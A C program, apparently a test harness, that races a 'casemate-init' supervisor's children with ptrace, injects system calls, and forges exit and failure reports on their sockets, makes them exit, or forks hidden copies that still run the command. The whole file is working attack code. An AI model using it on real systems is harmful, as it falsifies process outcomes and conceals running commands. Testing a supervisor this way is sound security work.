/*
 * Attacks the moment at which a supervisor's child has become dumpable and has not yet become
 * the command: a process of the same user may trace it then.
 *
 * Every child that waits for its order is stepped by SIGCONT and SIGSTOP until PTRACE_SEIZE
 * succeeds. Caught in time, it is made to do one of four things, in turn:
 *   0  forge "exited 0" and "nothing is left" on every socket it holds, then become the command
 *   1  forge the failure to start on every descriptor it holds, then become the command
 *   2  end with code 0 instead of becoming the command
 *   3  forge the failure, leave a copy that becomes the command, and end with code 127
 * One line "caught MODE" for each goes to standard output. It ends when there is a file "stop".
 *
 * The copy of mode 3 looks like a child that waits for its order, and is left alone: made to end as in
 * mode 2 it would never become the command, and it would be true that nothing is left of that.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* Report{Ended{code: 0}} and Report{Empty}, each with its length before it. */
static const unsigned char ENDED_AND_EMPTY[8] = {4, 0x1a, 2, 8, 0, 2, 0x20, 1};
/* Report{Failed{step: Chdir, errno: ENOENT}} and Report{Empty}. */
static const unsigned char FAILED_AND_EMPTY[10] = {6, 0x12, 4, 8, 1, 0x10, 2, 2, 0x20, 1};
/* E2BIG, as eight bytes. */
static const unsigned char NUMBER[8] = {7};

static void nap(long microseconds) {
    struct timespec time = {0, microseconds * 1000};
    nanosleep(&time, NULL);
}

static int is_over(void) {
    return access("stop", F_OK) == 0;
}

static void spin(long nanoseconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000000000 + now.tv_nsec - start.tv_nsec < nanoseconds);
}

static int stat_of(int pid, char *name, int *parent) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = fopen(path, "r");
    if (!file)
        return -1;
    size_t length = fread(line, 1, sizeof line - 1, file);
    fclose(file);
    line[length] = 0;
    char *open = strchr(line, '('), *close = strrchr(line, ')'), state;
    if (!open || !close || sscanf(close + 1, " %c %d", &state, parent) != 2)
        return -1;
    *close = 0;
    strncpy(name, open + 1, 31);
    name[31] = 0;
    return 0;
}

static int is_waiting_child(int pid) {
    char name[32];
    int parent, grandparent;
    return stat_of(pid, name, &parent) == 0 && !strcmp(name, "casemate-init") && parent > 1 &&
           stat_of(parent, name, &grandparent) == 0 && grandparent == 1 && !strcmp(name, "casemate-init");
}

static long system_call_instruction(int pid) {
    char path[64], line[256];
    unsigned long from = 0, to = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[vdso]") && sscanf(line, "%lx-%lx", &from, &to) == 2)
            break;
    if (maps)
        fclose(maps);
    for (unsigned long at = from; at + 8 <= to; at++) {
        errno = 0;
        unsigned long word = ptrace(PTRACE_PEEKDATA, pid, at, 0);
        if (!errno && (word & 0xffff) == 0x050f)
            return at;
    }
    return 0;
}

/* For each id whether a process of it was attacked or is a copy; shared with all attackers. */
static char *seen;
static const int IDS = 1 << 22;

static struct user_regs_struct saved;
static unsigned long instruction, room;

/* One instruction on; a signal that was on its way is swallowed. A stop that was asked for before does not count:
 * no instruction was run then. */
static void step(int pid) {
    int status;
    for (int n = 0; n < 10; n++) {
        ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
        if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
            return;
        if (WSTOPSIG(status) == SIGTRAP && status >> 16 != PTRACE_EVENT_STOP)
            return;
    }
}

static long call(int pid, long number, long a, long b, long c) {
    struct user_regs_struct regs = saved;
    regs.orig_rax = -1;
    regs.rax = number;
    regs.rdi = a, regs.rsi = b, regs.rdx = c;
    regs.rip = instruction;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    step(pid);
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    return regs.rax;
}

/* Writes to every socket that it holds, or to everything else. */
static void forge(int pid, int sockets, const unsigned char *bytes, size_t length) {
    unsigned long words[2] = {0};
    memcpy(words, bytes, length);
    ptrace(PTRACE_POKEDATA, pid, room, words[0]);
    ptrace(PTRACE_POKEDATA, pid, room + 8, words[1]);
    char path[64], target[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        int fd = atoi(entry->d_name);
        ssize_t known = readlinkat(dirfd(directory), entry->d_name, target, sizeof target);
        int is_socket = known > 7 && !memcmp(target, "socket:", 7);
        if (fd > 2 && is_socket == sockets)
            call(pid, SYS_write, fd, room, length);
    }
    if (directory)
        closedir(directory);
}

static void go_on(int pid) {
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    kill(pid, SIGCONT);
}

static void attack(int pid, int mode) {
    int status, parent;
    char name[32];
    kill(pid, SIGSTOP);
    for (;;) {
        kill(pid, SIGCONT);
        spin(rand() % 25000);
        kill(pid, SIGSTOP);
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
            break;
        if (errno == ESRCH)
            _exit(0);
        if (is_over() || stat_of(pid, name, &parent) || strcmp(name, "casemate-init")) {
            kill(pid, SIGCONT);
            _exit(0);
        }
        nap(100);
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
        _exit(0);
    ptrace(PTRACE_GETREGS, pid, 0, &saved);
    instruction = system_call_instruction(pid);
    room = (saved.rsp - 512) & ~15ul;
    if (stat_of(pid, name, &parent) || strcmp(name, "casemate-init") || !instruction) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
        kill(pid, SIGCONT);
        _exit(0);
    }
    printf("caught %d\n", mode);
    fflush(stdout);
    switch (mode) {
    case 0:
        forge(pid, 1, ENDED_AND_EMPTY, sizeof ENDED_AND_EMPTY);
        go_on(pid);
        break;
    case 1:
        forge(pid, 0, NUMBER, sizeof NUMBER);
        forge(pid, 1, FAILED_AND_EMPTY, sizeof FAILED_AND_EMPTY);
        go_on(pid);
        break;
    case 2:
        call(pid, SYS_exit_group, 0, 0, 0);
        break;
    case 3: {
        forge(pid, 0, NUMBER, sizeof NUMBER);
        forge(pid, 1, FAILED_AND_EMPTY, sizeof FAILED_AND_EMPTY);
        ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACEFORK);
        unsigned long copy = 0;
        call(pid, SYS_fork, 0, 0, 0);
        ptrace(PTRACE_GETEVENTMSG, pid, 0, &copy);
        if (copy && waitpid(copy, &status, __WALL) == (int)copy) {
            /* Before its parent's end, which makes it a child of the supervisor. */
            seen[copy] = 1;
            go_on(copy);
        }
        /* To the end of the fork, which would overwrite the next call's number. */
        step(pid);
        ptrace(PTRACE_SETOPTIONS, pid, 0, 0);
        call(pid, SYS_exit_group, 127, 0, 0);
        break;
    }
    }
    _exit(0);
}

int main(void) {
    int mode = 0;
    seen = mmap(NULL, IDS, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (seen == MAP_FAILED)
        return 1;
    signal(SIGCHLD, SIG_IGN);
    while (!is_over()) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid >= IDS || seen[pid] || !is_waiting_child(pid))
                continue;
            seen[pid] = 1;
            if (fork() == 0) {
                signal(SIGCHLD, SIG_DFL);
                srand(pid);
                attack(pid, mode);
            }
            mode = (mode + 1) % 4;
        }
        if (processes)
            closedir(processes);
        nap(500);
    }
}
